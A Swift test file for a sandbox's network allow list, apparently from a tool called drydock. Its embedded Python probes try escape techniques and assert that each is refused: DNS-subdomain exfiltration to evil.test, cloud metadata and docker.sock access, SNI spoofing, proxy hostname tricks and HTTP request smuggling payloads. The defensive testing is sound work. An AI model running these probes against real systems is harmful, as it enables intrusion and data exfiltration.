import Foundation
import Glibc
import RunModel
import TestSupport
import Testing

/// Part E with an allow list, through the whole of `drydock run`: each attack has its verdict inside
/// and its line in the report.
@Suite(.serialized) struct NamedNetworkTests {
    /// 60 and 61: addresses, UDP, QUIC and names that no rule allows.
    @Test func addressesAndTunnelsAreRefusedAndReported() throws {
        let run = try Self.run(
            allow: "web.test",
            """
            import socket, struct
            targets = [("INET", "169.254.169.254", 80), ("INET", "100.100.100.200", 80), ("INET", "10.0.0.1", 443),
                       ("INET", "192.168.0.1", 80), ("INET", "172.17.0.1", 2375), ("INET", "1.1.1.1", 853),
                       ("INET6", "fd00:ec2::254", 80), ("INET6", "2606:4700::1111", 443)]
            for family, address, port in targets:
                s = socket.socket(getattr(socket, "AF_" + family)); s.settimeout(3)
                try: s.connect((address, port)); print("open", address)
                except OSError as e: print("refused", address, type(e).__name__)
            for address, port in (("8.8.8.8", 53), ("9.9.9.9", 443), ("162.159.200.1", 123), ("198.18.0.9", 5353), (socket.gethostbyname("web.test"), 443)):
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
                try:
                    u.connect((address, port)); u.send(b"x"); u.recv(10); print("open", address)
                except OSError as e: print("refused", address, type(e).__name__)
            for name in ("evil.test", "c2VjcmV0LWtleQ." + "a" * 63 + ".evil.test", "dns.resolver.test"):
                try: print("open", socket.getaddrinfo(name, 443))
                except OSError as e: print("refused", name, e)
            q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\x10\\0\\1"
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
            u.sendto(q, ("198.18.0.1", 53)); print("TXT", u.recv(512)[3] & 15)
            for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
                try: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b"\\x08\\0" + b"\\0" * 6, ("1.0.0.1", 0)); print("icmp sent")
                except OSError as e: print("icmp refused", e)
            """)
        #expect(!run.output.contains("open"), "\(run.output)")
        #expect(!run.output.contains("TimeoutError"), "refused at once: \(run.output)")
        #expect(run.output.contains("TXT 3"), "NXDOMAIN: \(run.status) \(run.output) \(run.errors)")
        for host in [
            "169.254.169.254", "100.100.100.200", "10.0.0.1", "192.168.0.1", "172.17.0.1",
            "1.1.1.1",
            "fd00:ec2:0:0:0:0:0:254", "8.8.8.8", "9.9.9.9", "162.159.200.1", "198.18.0.9",
            "evil.test", "dns.resolver.test", "secret.evil.test",
        ] { #expect(run.refused(host) != nil, "\(host) is not in \(run.hosts)") }
        // QUIC to an allowed name.
        #expect(run.refused("web.test")?.rule.contains("QUIC") == true, "\(run.connections)")
        #expect(run.refused("9.9.9.9")?.rule.contains("QUIC") == true)
        #expect(run.refused("169.254.169.254")?.rule.contains("metadata") == true)
        // ICMP either has no socket at all, or is seen leaving and refused.
        #expect(!run.output.contains("icmp sent") || run.refused("1.0.0.1") != nil, "\(run.output)")
    }

    /// 62: names that two parsers read differently, by CONNECT, SOCKS5 and DNS.
    @Test func disguisedNamesAreRefusedAndReported() throws {
        let run = try Self.run(
            allow: "web.test",
            """
            import socket
            names = [b"evil.test\\0.web.test", b"web.test.", b"web.test.evil.test", b"user@web.test", b"web.test@evil.test",
                     b"[::1]", b"[fe80::1%25lo]", b"127.0.0.1", b"2130706433", b"0x7f000001", b"0177.0.0.1", b"127.1",
                     b"web%2etest", b"%77eb.test", "wеb.test".encode(), b"xn--wb-tlc.test", b"web.test\\r\\nX: y", b"web_.test",
                     b"web.test\\t", b"", b"a" * 300]
            def ask(data):
                s = socket.create_connection(("198.18.0.1", 3128), 5); s.settimeout(5); s.sendall(data)
                out = b""
                try:
                    while (part := s.recv(4096)): out += part
                except OSError: pass
                return out
            for name in names:
                answer = ask(b"CONNECT " + name + b":443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
                print("connect", answer.split(b" ")[1:2], name[:40])
                if len(name) < 256:
                    answer = ask(b"\\x05\\x01\\0\\x05\\x01\\0\\x03" + bytes([len(name)]) + name + b"\\x01\\xbb")
                    print("socks", answer[3:4] != b"\\0", name[:40])
            print("address", ask(b"\\x05\\x01\\0\\x05\\x01\\0\\x01\\x7f\\0\\0\\x01\\x01\\xbb")[3:4] != b"\\0")
            print("absolute", ask(b"GET http://evil.test@web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n")[9:12])
            """)
        let lines = run.output.split(separator: "\n")
        #expect(lines.count == 21 + 20 + 2, "\(run.output) \(run.errors)")
        for line in lines {
            #expect(
                line.contains("[b'400']") || line.contains("[b'403']") || line.contains(" True")
                    || line.contains("b'400'"), "\(line)")
        }
        #expect(run.connections.allSatisfy { $0.verdict == "refused" })
        #expect(run.connections.count >= 43, "\(run.connections.count)")
        #expect(run.connections.contains { $0.rule.contains("numeric") })
        // Each refusal is a denial too, with what would permit it.
        let denied = run.denials.filter { $0.layer == "network" }
        #expect(denied.map(\.count).reduce(0, +) == run.connections.count)
        #expect(denied.allSatisfy { $0.hint.contains("--net allow=") })
    }

    /// 63: what is inside must be what was asked for.
    @Test func anotherNameInsideIsRefusedAndReported() throws {
        let run = try Self.run(
            allow: "web.test,127.0.0.0/8:80,127.0.0.0/8:443",
            """
            import socket, ssl
            def raw(port, data):
                s = socket.create_connection(("web.test", port), 5); s.settimeout(15); s.sendall(data)
                try: return s.recv(4096)
                except OSError as e: return type(e).__name__.encode()
            def hello(name):
                c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
                i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); t = c.wrap_bio(i, o, server_hostname=name)
                try: t.do_handshake()
                except ssl.SSLWantReadError: pass
                return o.read()
            print("sni", raw(443, hello("evil.test"))[:1])
            print("none", raw(443, hello(None))[:1])
            h = hello("evil.test")
            pieces = b"".join(b"\\x16\\x03\\x01\\0\\1" + h[5+i:6+i] for i in range(len(h) - 5))
            print("split", raw(443, pieces)[:1])
            print("plain", raw(443, b"GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n")[:12])
            print("ssh", raw(443, b"SSH-2.0-OpenSSH_9.2\\r\\n")[:12])
            print("host", raw(80, b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")[:12])
            print("absolute", raw(80, b"GET http://evil.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n")[:12])
            print("h2c", raw(80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")[:12])
            s = socket.create_connection(("198.18.0.1", 3128), 5)
            s.sendall(b"CONNECT web.test:443 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"); s.recv(200)
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"); print("tunnel", s.recv(200)[:12])
            """)
        let output = run.output
        for line in [
            "sni b'\\x15'", "none b'\\x15'", "split b'\\x15'", "plain b'HTTP/1.1 403'", "ssh b''",
            "host b'HTTP/1.1 421'", "absolute b'HTTP/1.1 400'", "h2c b'HTTP/1.1 400'",
            "tunnel b'HTTP/1.1 403'",
        ] { #expect(output.contains(line), "\(line) is not in \(output) \(run.errors)") }
        let rules = run.connections.map(\.rule).joined(separator: "\n")
        for reason in [
            "TLS names evil.test", "names no server", "plain HTTP where TLS belongs",
            "neither TLS nor HTTP", "Host is \"evil.test\"", "no path", "malformed request line",
        ] { #expect(rules.contains(reason), "\(reason) is not in \(rules)") }
    }

    /// 64: a name that leads to this host, and one that changes between two connections.
    @Test func namesThatLeadHomeAreRefusedAndReported() throws {
        let server = try TestServer()
        defer { server.stop() }
        let run = try Self.run(
            allow: "web.test:\(server.port),private.test:80",
            """
            import urllib.request as u
            for url in ("http://web.test:\(server.port)/echo", "http://private.test/"):
                try: print("open", u.urlopen(url, timeout=5).read())
                except OSError as e: print("refused", getattr(e, "code", e))
            """)
        #expect(!run.output.contains("open"), "\(run.output)")
        #expect(server.requests.isEmpty)
        #expect(run.refused("web.test")?.rule.contains("loopback") == true, "\(run.connections)")
        #expect(run.refused("private.test")?.rule.contains("private") == true)
    }

    /// 65: requests that two servers would cut differently.
    @Test func smuggledRequestsAreRefusedAndReported() throws {
        let server = try TestServer()
        defer { server.stop() }
        let port = server.port
        let run = try Self.run(
            allow: "web.test:\(port);method=GET;method=POST,127.0.0.0/8:\(port)",
            """
            import socket
            H = b"Host: web.test:\(port)\\r\\n"
            attacks = {
              "both": b"POST /echo HTTP/1.1\\r\\n" + H + b"Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
              "lengths": b"POST /echo HTTP/1.1\\r\\n" + H + b"Content-Length: 4\\r\\nContent-Length: 5\\r\\n\\r\\nabcde",
              "list": b"POST /echo HTTP/1.1\\r\\n" + H + b"Content-Length: 4, 4\\r\\n\\r\\nabcd",
              "plus": b"POST /echo HTTP/1.1\\r\\n" + H + b"Content-Length: +4\\r\\n\\r\\nabcd",
              "space": b"POST /echo HTTP/1.1\\r\\n" + H + b"Content-Length : 4\\r\\n\\r\\nabcd",
              "folded": b"POST /echo HTTP/1.1\\r\\n" + H + b"X: a\\r\\n Transfer-Encoding: chunked\\r\\n\\r\\n",
              "coding": b"POST /echo HTTP/1.1\\r\\n" + H + b"Transfer-Encoding: xchunked\\r\\n\\r\\n",
              "twice": b"POST /echo HTTP/1.1\\r\\n" + H + b"Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n",
              "hosts": b"GET /echo HTTP/1.1\\r\\n" + H + b"Host: evil.test\\r\\n\\r\\n",
              "nohost": b"GET /echo HTTP/1.1\\r\\n\\r\\n",
              "nul": b"GET /echo HTTP/1.1\\r\\n" + H + b"X: a\\0b\\r\\n\\r\\n",
              "lf": b"GET /echo HTTP/1.1\\r\\n" + H + b"X: a\\nTransfer-Encoding: chunked\\r\\n\\r\\n",
              "cr": b"GET /echo HTTP/1.1\\r\\n" + H + b"X: a\\rY: b\\r\\n\\r\\n",
              "version": b"GET /echo HTTP/1.2\\r\\n" + H + b"\\r\\n",
              "spaces": b"GET  /echo HTTP/1.1\\r\\n" + H + b"\\r\\n",
              "chunk": b"POST /echo HTTP/1.1\\r\\n" + H + b"Transfer-Encoding: chunked\\r\\n\\r\\n4;x\\r\\nabcd\\r\\n0\\r\\n\\r\\n",
              "huge": b"GET /echo HTTP/1.1\\r\\n" + H + b"X: " + b"a" * 70000 + b"\\r\\n\\r\\n",
              "method": b"DELETE /echo HTTP/1.1\\r\\n" + H + b"\\r\\n",
            }
            for name, data in attacks.items():
                s = socket.create_connection(("web.test", \(port)), 5); s.settimeout(5)
                try: s.sendall(data); answer = s.recv(4096)
                except OSError as e: answer = type(e).__name__.encode()
                print(name, answer[:12])
            # A second request behind the first is read like the first.
            s = socket.create_connection(("web.test", \(port)), 5); s.settimeout(5)
            s.sendall(b"GET /echo/1 HTTP/1.1\\r\\n" + H + b"\\r\\nDELETE /echo/2 HTTP/1.1\\r\\n" + H + b"\\r\\n")
            out = b""
            while (part := s.recv(4096)): out += part
            print("pipelined", out.count(b"HTTP/1.1 200"), out.count(b"HTTP/1.1 403"))
            """)
        for line in run.output.split(separator: "\n") where !line.hasPrefix("pipelined") {
            #expect(
                line.contains("HTTP/1.1 400") || line.contains("HTTP/1.1 403")
                    || line.hasPrefix("chunk ") || line.hasPrefix("huge "), "\(line)")
        }
        #expect(run.output.contains("pipelined 1 1"), "\(run.output) \(run.errors)")
        #expect(run.connections.count { $0.verdict == "refused" } >= 19, "\(run.connections.count)")
        #expect(
            server.requests.allSatisfy { $0.contains("/echo/1") || $0.contains("POST /echo ") },
            "\(server.requests)")
        #expect(!server.requests.contains { $0.contains("DELETE") })
    }

    /// 65 and 68: no sandbox reaches another's resolver, proxy or names.
    @Test func gatewaysAreOnesOwn() throws {
        let other = try Self.run(
            allow: "web.test",
            "import socket; socket.create_connection(('198.18.0.1', 3128)); print('own')")
        #expect(other.output.contains("own"), "\(other.errors)")
        let none = try Drydock.run(
            NetworkTests.client(
                "(\"INET\", \"STREAM\", (\"198.18.0.1\", 3128)), (\"INET\", \"STREAM\", (\"198.18.1.0\", 80))"
            ))
        #expect(!none.output.contains("reached"), "\(none.output)")
    }

    /// 66: an allowed host is allowed for what the rule says.
    @Test func pushingThroughAnAllowedHostIsRefusedAndReported() throws {
        let server = try TestServer()
        defer { server.stop() }
        let place = "web.test:\(server.port)"
        let run = try Self.run(
            allow: "\(place);method=GET;path=/own/,\(place);method=POST;path=/own/git-upload-pack,"
                + "127.0.0.0/8:\(server.port)",
            """
            import urllib.request as u
            def ask(path, data=None):
                try: return u.urlopen(u.Request("http://\(place)" + path, data), timeout=5).status
                except OSError as e: return getattr(e, "code", e)
            print("fetch", ask("/own/info/refs?service=git-upload-pack"), ask("/own/git-upload-pack", b"x"))
            print("push", ask("/own/git-receive-pack", b"x"), ask("/other/git-receive-pack", b"x"), ask("/other/info/refs"))
            """)
        #expect(run.output.contains("fetch 200 200"), "\(run.output) \(run.errors)")
        #expect(run.output.contains("push 403 403 403"), "\(run.output)")
        #expect(server.requests.count == 2)
        let refused = run.connections.filter { $0.verdict == "refused" }.map(\.rule)
        #expect(refused.count == 3 && refused.allSatisfy { $0.contains("/") }, "\(refused)")
        #expect(run.connections.contains { $0.rule.contains("POST /own/git-upload-pack: 200") })
    }

    /// 67 and 69: an allow list opens no socket of the host's.
    @Test func socketsOfTheHostStayOutOfReach() throws {
        let name = "drydock-escape-\(UUID().uuidString)"
        let abstract = try Listener.unix(name)
        let loopback = try Listener.loopback()
        let run = try Drydock.run(
            NetworkTests.client(
                """
                ("UNIX", "STREAM", "\\0\(name)"), ("UNIX", "STREAM", "/var/run/docker.sock"),
                ("UNIX", "STREAM", "/run/dbus/system_bus_socket"),
                ("INET", "STREAM", ("127.0.0.1", \(loopback.port))), ("INET", "STREAM", ("127.0.0.1", 5037))
                """), options: ["--net", "allow=web.test"])
        #expect(
            run.output.split(separator: "\n").count { $0.hasPrefix("refused") } == 5,
            "\(run.output)")
        #expect(abstract.descriptor >= 0)
    }

    /// As an ordinary user: the same verdicts and the same lines.
    @Test func rootlessIsTheSame() throws {
        let server = try TestServer()
        defer { server.stop() }
        let run = try Self.run(
            allow: "web.test:\(server.port),127.0.0.0/8:\(server.port)",
            """
            import socket, urllib.request as u
            print(u.urlopen("http://web.test:\(server.port)/echo", timeout=5).read()[:9])
            for kind, address, port in (("STREAM", "169.254.169.254", 80), ("DGRAM", "9.9.9.9", 443)):
                s = socket.socket(socket.AF_INET, getattr(socket, "SOCK_" + kind)); s.settimeout(3)
                try: s.connect((address, port)); s.send(b"x"); s.recv(9); print("open", address)
                except OSError as e: print("refused", address, type(e).__name__)
            try: print("open", socket.getaddrinfo("evil.test", 80))
            except OSError as e: print("refused", e)
            """, user: 12345)
        #expect(run.output.contains("GET /echo"), "\(run.output) \(run.errors)")
        #expect(!run.output.contains("open"), "\(run.output)")
        #expect(!run.output.contains("TimeoutError"), "refused at once: \(run.output)")
        for host in ["169.254.169.254", "9.9.9.9", "evil.test"] {
            #expect(run.refused(host) != nil, "\(host) is not in \(run.hosts)")
        }
    }

    /// Clients that are told of a proxy by variables, as most read them: HTTP CONNECT, plain HTTP in
    /// absolute form, SOCKS5.
    @Test func clientsThatAreToldOfAProxyUseIt() throws {
        let server = try TestServer(tls: true)
        let plain = try TestServer()
        defer {
            server.stop()
            plain.stop()
        }
        let (secure, open) = ("https://web.test:\(server.port)", "http://web.test:\(plain.port)")
        let run = try Self.run(
            allow: "web.test:\(server.port);port=\(plain.port),127.0.0.0/8:\(server.port),"
                + "127.0.0.0/8:\(plain.port)",
            """
            import os, subprocess, sys
            P = "198.18.0.1:3128"
            variables = {"connect": {"https_proxy": "http://" + P, "http_proxy": "http://" + P},
                         "socks": {"ALL_PROXY": "socks5h://" + P}}
            fetch = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=8).read())"
            clients = {"curl": ["curl", "-sS", "-m", "8"], "python": [sys.executable, "-c", fetch]}
            for way, name in (("connect", "curl"), ("connect", "python"), ("socks", "curl")):
                for url in ("\(secure)/echo", "\(open)/echo", "https://evil.test/", "http://evil.test/"):
                    r = subprocess.run(clients[name] + [url], capture_output=True, text=True, env=dict(os.environ, **variables[way]))
                    text = r.stdout + r.stderr
                    verdict = "works" if "GET /echo" in text else "says 403" if "403" in text or "no rule allows" in text else "is closed" if "SOCKS5" in text else text
                    print(way, name, url.replace(":\(server.port)", "").replace(":\(plain.port)", ""), verdict)
            """, environment: ["SSL_CERT_FILE": server.authority])
        let lines = Set(run.output.split(separator: "\n").map(String.init))
        for (client, refused) in [
            ("connect curl", "says 403"), ("connect python", "says 403"),
            ("socks curl", "is closed"),
        ] {
            for scheme in ["https", "http"] {
                for line in [
                    "\(client) \(scheme)://web.test/echo works",
                    "\(client) \(scheme)://evil.test/ \(refused)",
                ] { #expect(lines.contains(line), "\(line): \(run.output) \(run.errors)") }
            }
        }
        #expect(run.connections.count { $0.verdict == "allowed" && $0.bytesIn > 0 } >= 6)
        #expect(run.connections.count { $0.host == "evil.test" && $0.verdict == "refused" } >= 6)
    }

    /// What a run's certificate authority leaves on the disk: certificates while it runs, nothing
    /// afterwards, its keys never.
    @Test func certificatesAreGoneWithTheRun() throws {
        try withTemporaryDirectory { folder in
            let run = try Self.run(
                allow: "web.test,@intercept",
                """
                import os, subprocess
                print("bundle", open(os.environ["SSL_CERT_FILE"]).read().count("BEGIN CERTIFICATE") > 0)
                print("keys", subprocess.run(["grep", "-rl", "PRIVATE KEY", "/run", "/tmp", "/work", "/etc"], capture_output=True).stdout)
                print("kept", os.access("/run/drydock/trust", os.W_OK))
                """, environment: ["TMPDIR": folder])
            #expect(
                run.output == "bundle True\nkeys b''\nkept False\n", "\(run.output) \(run.errors)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: folder) == [])
        }
    }

    /// A gateway that is killed cuts its sandbox off and takes it along; nothing is opened.
    @Test func aKilledGatewayEndsItsSandbox() throws {
        let server = try TestServer()
        defer { server.stop() }
        try withTemporaryDirectory { directory in
            let hosts = directory + "/hosts"
            try "127.0.0.1 localhost web.test\n".write(
                toFile: hosts, atomically: true, encoding: .utf8)
            let process = try HostProcess.start(
                [
                    "/usr/bin/unshare", "-m", "/bin/sh", "-c",
                    "mount --bind \(hosts) /etc/hosts && exec \"$@\"", "sh", try Drydock.binary,
                    "run",
                    "--net", "allow=web.test:\(server.port),127.0.0.0/8:\(server.port)", "--",
                    "python3", "-c",
                    """
                    import time, urllib.request as u
                    while True:
                        try: u.urlopen("http://web.test:\(server.port)/echo", timeout=5).read()
                        except OSError: pass
                        time.sleep(0.05)
                    """,
                ], output: directory + "/out", errors: directory + "/err")
            let deadline = Date.now + 30
            while server.requests.count < 3 && Date.now < deadline { usleep(20_000) }
            #expect(server.requests.count >= 3)
            // `unshare` and the shell have become drydock-tool.
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
            usleep(500_000)
            let seen = server.requests.count
            usleep(700_000)
            #expect(server.requests.count == seen, "requests go on after the gateway's end")
        }
    }

    // MARK: The stage

    /// `drydock run` with a host table of the test's own.
    static func run(
        allow: String, _ program: String, options: [String] = [],
        environment: [String: String] = [:], user: UInt32? = nil
    ) throws -> NamedRun {
        try withTemporaryDirectory { directory in
            let hosts = directory + "/hosts"
            try "127.0.0.1 localhost web.test a.web.test\n10.9.8.7 private.test\n".write(
                toFile: hosts, atomically: true, encoding: .utf8)
            let report = directory + "/report.json"
            var options = options
            var environment = environment
            var identity: [String] = []
            if let user {
                let profile = directory + "/rootless.yaml"
                try
                    "version: 1\nname: rootless\ndescription: Without cgroups.\nextends: build\nmay_degrade: [cgroup]\n"
                    .write(toFile: profile, atomically: true, encoding: .utf8)
                options += ["--profile", profile]
                environment["HOME"] = directory
                environment["TMPDIR"] = directory
                environment["XDG_CACHE_HOME"] = directory + "/cache"
                environment["XDG_RUNTIME_DIR"] = directory
                try #require(chown(directory, user, user) == 0)
                identity = ["setpriv", "--reuid=\(user)", "--regid=\(user)", "--clear-groups"]
            }
            let result = try HostProcess.run(
                [
                    "/usr/bin/unshare", "-m", "/bin/sh", "-c",
                    "mount --bind \(hosts) /etc/hosts && exec \"$@\"", "sh",
                ] + identity + [
                    try Drydock.binary, "run", "--report", report, "--net", "allow=" + allow,
                ] + options + ["--", "python3", "-c", program], environment: environment,
                directory: directory)
            let document = FileManager.default.contents(atPath: report)
            let decoded = try document.map { try JSONDecoder().decode(RunReport.self, from: $0) }
            return NamedRun(
                output: result.output, errors: result.errors, status: result.status,
                connections: decoded?.connections ?? [], denials: decoded?.denials ?? [])
        }
    }
}

struct NamedRun {
    var output: String
    var errors: String
    var status: Int32
    var connections: [ConnectionRecord]
    var denials: [Denial]

    var hosts: [String] { connections.map(\.host) }

    func refused(_ host: String) -> ConnectionRecord? {
        connections.first { $0.host == host && $0.verdict == "refused" }
    }
}
